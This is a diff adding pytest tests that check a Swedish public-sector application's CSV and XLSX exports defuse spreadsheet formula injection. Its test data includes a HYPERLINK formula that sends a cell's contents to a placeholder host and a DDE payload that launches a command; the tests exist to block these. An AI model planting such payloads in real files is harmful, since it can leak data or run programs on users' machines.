@@ -105,3 +105,72 @@ def test_statistics_export_to_csv_parses_with_one_row_per_figure(client_for: Any
 
 def test_an_unknown_export_format_is_not_found(client_for: Any) -> None:
     assert client_for("eva.berg").get("/uppfoljning/statistik/export.pdf").status_code == 404
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("https://example.invalid/?x="&A1;"klicka")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "\tTAB",
+        "\r=1",
+    ],
+)
+def test_a_typed_text_that_a_spreadsheet_would_run_is_exported_as_inert_text(typed: str) -> None:
+    from samverkan.reports.exports import csv_text, neutralise
+
+    assert neutralise(typed) == "'" + typed
+    [row] = list(csv.reader(io.StringIO(csv_text(["Ändamål"], [[typed]]).lstrip("\ufeff"))))[1:]
+    assert row == ["'" + typed]
+
+
+@pytest.mark.parametrize("number", ["-1200", "-1 200,50", "12,50", 42, -3])
+def test_numbers_stay_numbers_in_exports(number: Any) -> None:
+    from samverkan.reports.exports import neutralise
+
+    assert neutralise(number) == number
+
+
+def test_the_log_search_export_neutralises_a_formula_typed_into_the_purpose(
+    client_for: Any, user_named: Any, world: None
+) -> None:
+    from samverkan.accounts.models import Organisation
+    from samverkan.core import clock
+    from samverkan.disclosures.audit import audit_append
+
+    person = make_person("Åsa", "Öberg")
+    official = user_named("sara.lind")
+    with clock.pinned(at(MONDAY, 9), ticking=False):
+        audit_append(
+            event="disclosure.released",
+            actor=official,
+            organisation=Organisation.objects.get(code="fk"),
+            recipient=official.organisation,
+            person=person,
+            categories=["identity"],
+            basis="duty",
+            purpose='=HYPERLINK("https://example.invalid","Öppna")',
+            extra={},
+        )
+    response = client_for("lars.ek").get(
+        "/uppfoljning/logggranskning/sok/export.csv", {"start": "2025-03-03", "end": "2025-03-09"}
+    )
+    rows = read_csv(streamed(response))
+    purposes = [row[rows[0].index("Ändamål")] for row in rows[1:]]
+    assert '\'=HYPERLINK("https://example.invalid","Öppna")' in purposes
+    assert not any(p.startswith(("=", "+", "-", "@")) for p in purposes)
+
+
+def test_an_xlsx_export_never_holds_a_formula_from_a_unit_name(client_for: Any, user_named: Any) -> None:
+    from samverkan.accounts.models import Unit
+
+    unit = user_named("sara.lind").unit
+    Unit.objects.filter(pk=unit.pk).update(name="=1+2 Ekonomiskt bistånd")
+    response = client_for("eva.berg").get("/uppfoljning/statistik/export.xlsx", {"start": "2025-01", "end": "2025-03"})
+    assert response.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert "'=1+2 Ekonomiskt bistånd" in [c.value for c in cells]
